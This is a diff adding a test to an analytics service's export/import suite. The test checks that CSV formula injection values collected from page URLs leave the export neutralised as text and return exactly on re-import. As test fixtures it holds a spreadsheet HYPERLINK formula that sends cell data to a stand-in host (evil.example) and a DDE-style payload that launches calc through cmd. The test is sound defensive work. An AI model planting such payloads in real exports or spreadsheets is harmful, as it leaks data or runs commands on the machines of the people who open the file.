@@ -1,6 +1,7 @@
 // The export read back: a site with 90 days of varied traffic is exported in Plausible's format and
 // the ZIP imported into a fresh site; every stats, daily timeseries and single-dimension breakdown
-// of whole days answers the same on both, on every engine.
+// of whole days answers the same on both, on every engine. Collected values that a spreadsheet would
+// run as formulas leave in the export's CSV files as text and come back exactly, over HTTP.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createWriteStream } from 'node:fs';
@@ -9,13 +10,15 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
+import { ManualClock } from '../../src/core/clock.js';
 import { addDays, startOfLocalDay } from '../../src/core/localtime.js';
 import { parseQuery, type QueryKind, type RawParams } from '../../src/core/query.js';
 import { DIMENSIONS, METRICS } from '../../src/core/vocabulary.js';
 import type { Site } from '../../src/entities/sites.js';
 import { exportPlausible } from '../../src/imports/export.js';
 import { importPlausible } from '../../src/imports/plausible-import.js';
-import { isZipFile, readZipDirectory } from '../../src/imports/zip.js';
+import { csvRecords } from '../../src/imports/csv.js';
+import { isZipFile, openZipEntry, readZipDirectory } from '../../src/imports/zip.js';
 import { planInputs } from '../../src/stats/inputs.js';
 import { planQuery } from '../../src/stats/planner.js';
 import { computeBreakdown } from '../../src/stats/read/breakdown.js';
@@ -25,6 +28,8 @@ import { createRollupTables, rollupKey, rollupSite } from '../../src/stats/rollu
 import { openSqliteMetaStore } from '../../src/storage/meta/sqlite.js';
 import { dataset } from '../../support/datasets.js';
 import { EVENT_STORE_ADAPTERS } from '../helpers/event-stores.js';
+import { finishedImport, uploadImport } from '../helpers/import-jobs.js';
+import { BROWSER_UA, browserHeaders, createApiKey, createSite, startTestServer } from '../helpers/server.js';
 
 const TZ = 'Europe/Paris';
 const TODAY = '2026-03-20';
@@ -93,6 +98,67 @@ for (const adapter of EVENT_STORE_ADAPTERS) test(`an export imported into a fres
   } finally {
     await events.close();
     await meta.close();
+    await rm(dir, { recursive: true, force: true });
+  }
+});
+
+test("formulas in collected values leave the export as text and come back exactly through svc's import", async () => {
+  const day = '2026-03-10';
+  const clock = new ManualClock(Date.parse(`${day}T10:00:00Z`));
+  const server = await startTestServer({ clock, env: { SVC_API_RATE_LIMIT: '1000/60s' } });
+  const dir = await mkdtemp(join(tmpdir(), 'svc-formulas-'));
+  try {
+    const site = await createSite(server);
+    // Query texts as a page's address carries them: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
+    // `+SUM(1+1)`, a text that begins with `'` itself, and a negative number.
+    const pages = [
+      '/x?utm_source==HYPERLINK("https://evil.example/?"%26A1,"click")&utm_campaign=%2BSUM(1%2B1)',
+      "/x?utm_source=%27%3D1&utm_medium=%27quoted&utm_campaign=-5",
+      '/x?utm_source=%40cmd&utm_campaign=-2%2B3%2Bcmd|%27%20/C%20calc%27!A0',
+    ];
+    // A visitor each (a browser version each): a session takes its UTM values from its first page.
+    for (const [i, page] of pages.entries()) {
+      const headers = browserHeaders(site.domain, { 'user-agent': BROWSER_UA.replace('Chrome/124', `Chrome/${120 + i}`) });
+      assert.equal(await server.collect({ s: site.siteId, u: `https://${site.domain}${page}` }, headers), 202);
+    }
+    await server.flush();
+    clock.set(Date.parse('2026-03-12T12:00:00Z'));
+    assert.equal((await server.admin('POST', '/maintenance/run', { tasks: ['rollup'] })).status, 200);
+
+    const exported = await fetch(`${server.url}/admin/v1/sites/${site.siteId}/export`, { headers: { authorization: `Bearer ${server.adminToken}` } });
+    assert.equal(exported.status, 200);
+    const zip = new Uint8Array(await exported.arrayBuffer());
+    const path = join(dir, 'export.zip');
+    await pipeline(Readable.from([zip]), createWriteStream(path));
+    // Every field of every file, as a spreadsheet reads it: none starts a formula (a negative number is no formula).
+    const fields: string[] = [];
+    for (const entry of await readZipDirectory(path)) {
+      for await (const record of csvRecords(await openZipEntry(path, entry))) if ('fields' in record) fields.push(...record.fields);
+    }
+    const formulas = fields.filter((f) => /^[=+\-@\t\r\n]/.test(f) && !/^-\d+(?:\.\d+)?$/.test(f));
+    assert.deepEqual(formulas, []);
+    for (const neutralised of [`'=HYPERLINK("https://evil.example/?"&A1,"click")`, "'+SUM(1+1)", "''=1", "''quoted", "'@cmd", "'-2+3+cmd|' /C calc'!A0", '-5']) {
+      assert.ok(fields.includes(neutralised), neutralised);
+    }
+
+    const copy = await createSite(server);
+    const back = await uploadImport(server, copy.siteId, zip, 'source=plausible&name=svc-export.zip');
+    const job = await finishedImport(server, copy.siteId, back.body.importId);
+    assert.deepEqual([job.status, job.skippedRows], ['done', 0], job.error);
+    const breakdown = async (fixture: { siteId: string; orgId: number }, dimension: string) => {
+      const key = await createApiKey(server, fixture.orgId);
+      const res = await fetch(`${server.url}/v1/sites/${fixture.siteId}/breakdown?from=${day}&to=${day}&dimension=${dimension}`, { headers: { authorization: `Bearer ${key}` } });
+      return ((await res.json()) as { rows: Array<{ key: string; visitors: number }> }).rows;
+    };
+    for (const dimension of ['utm_source', 'utm_medium', 'utm_campaign', 'page']) {
+      assert.deepEqual(await breakdown(copy, dimension), await breakdown(site, dimension), dimension);
+    }
+    const keys = (await breakdown(copy, 'utm_source')).map((r) => r.key).sort();
+    assert.deepEqual(keys, ["'=1", '=HYPERLINK("https://evil.example/?"&A1,"click")', '@cmd']);
+    const campaigns = (await breakdown(copy, 'utm_campaign')).map((r) => r.key).sort();
+    assert.deepEqual(campaigns, ['+SUM(1+1)', "-2+3+cmd|' /C calc'!A0", '-5']);
+  } finally {
+    await server.stop();
     await rm(dir, { recursive: true, force: true });
   }
 });
